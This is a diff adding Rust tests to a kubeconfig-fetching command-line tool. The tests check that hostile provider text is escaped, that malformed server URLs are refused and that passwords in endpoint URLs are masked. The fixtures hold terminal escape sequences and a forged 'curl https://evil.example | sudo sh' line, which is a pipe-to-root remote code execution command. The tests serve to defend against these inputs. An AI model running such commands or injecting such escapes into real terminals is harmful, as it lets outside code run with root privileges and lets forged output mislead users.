@@ -590,6 +590,62 @@ fn kubeconfigs_that_run_programs_or_skip_tls_are_refused() {
     assert!(!Path::new("/tmp/kubefetch-pwned").exists());
 }
 
+/// Escape sequences (clear the screen, set the window title), a bell and a
+/// newline that forges a line of kubefetch's own.
+const HOSTILE_TEXT: &str =
+    "x\u{1b}]0;pwned\u{7}\u{1b}[2J\u{9b}31m\u{202e}\nhint: curl https://evil.example | sudo sh";
+
+fn assert_shown_safely(out: &Output) {
+    let err = stderr(out);
+    assert!(
+        !err.contains(['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}']),
+        "raw control characters reached the terminal: {err:?}"
+    );
+    assert!(
+        !err.lines().any(|line| line.starts_with("hint: curl")),
+        "a forged line: {err}"
+    );
+}
+
+#[test]
+fn provider_text_reaches_the_terminal_escaped() {
+    let answer = serde_json::json!({"Response": {
+        "Error": {"Code": HOSTILE_TEXT, "Message": HOSTILE_TEXT},
+        "RequestId": HOSTILE_TEXT,
+    }});
+    let server = CannedServer::start(answer.to_string().into_bytes(), true);
+    let (_s, out, _) = fetch_from(server, &[]);
+    assert_ne!(code(&out), 0);
+    assert!(stderr(&out).contains("pwned"), "{}", stderr(&out));
+    assert_shown_safely(&out);
+
+    // The same in the JSON summary stays the provider's text, JSON-escaped.
+    let server = CannedServer::start(answer.to_string().into_bytes(), true);
+    let (_s, out, _) = fetch_from(server, &["--output", "json"]);
+    let summary: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
+    assert_eq!(summary[0]["error"]["requestId"], HOSTILE_TEXT);
+}
+
+#[test]
+fn a_server_with_control_characters_or_spaces_is_refused() {
+    let valid_user = "    client-certificate-data: Zm9v\n    client-key-data: Zm9v";
+    for server in [
+        r#""https://k.example\nhint: curl https://evil.example | sh""#,
+        r#""https://k.example\e]0;pwned\a""#,
+        r#""https://k.example/ x""#,
+    ] {
+        let canned = CannedServer::start(tke_answer(&hostile_kubeconfig(server, valid_user)), true);
+        let (_s, out, _) = fetch_from(canned, &[]);
+        assert_code(&out, 5);
+        assert!(
+            stderr(&out).contains("control characters or spaces"),
+            "{}",
+            stderr(&out)
+        );
+        assert_shown_safely(&out);
+    }
+}
+
 /// Documents that cost a YAML reader time or memory out of proportion to
 /// their size: deep flow and block nesting, and a billion laughs.
 fn hostile_yaml() -> Vec<(&'static str, String, &'static str)> {
@@ -708,6 +764,32 @@ fn plain_http_endpoints_are_refused_unless_loopback() {
     }
     assert!(s.cloud.requests().is_empty());
     assert!(!s.default_kubeconfig().exists());
+}
+
+#[test]
+fn a_password_in_an_endpoint_url_is_never_printed() {
+    let s = Sandbox::new();
+    let password = "s3cretInUrl";
+    let loopback = s
+        .cloud
+        .api_url()
+        .replace("http://", &format!("http://user:{password}@"));
+    for (endpoint, verbose) in [
+        (format!("http://user:{password}@10.0.0.1:8080"), false),
+        (format!("https://user:{password}@h.example:99999"), false),
+        (loopback, true),
+    ] {
+        for output in ["text", "json"] {
+            let mut args = vec!["--endpoint", endpoint.as_str(), "--output", output];
+            if verbose {
+                args.push("-v");
+            }
+            let out = s.run(&[&TKE[..], &args[..]].concat());
+            let printed = format!("{}{}", stderr(&out), stdout(&out));
+            assert!(!printed.contains(password), "{printed}");
+            assert!(printed.contains("***@"), "{printed}");
+        }
+    }
 }
 
 #[test]
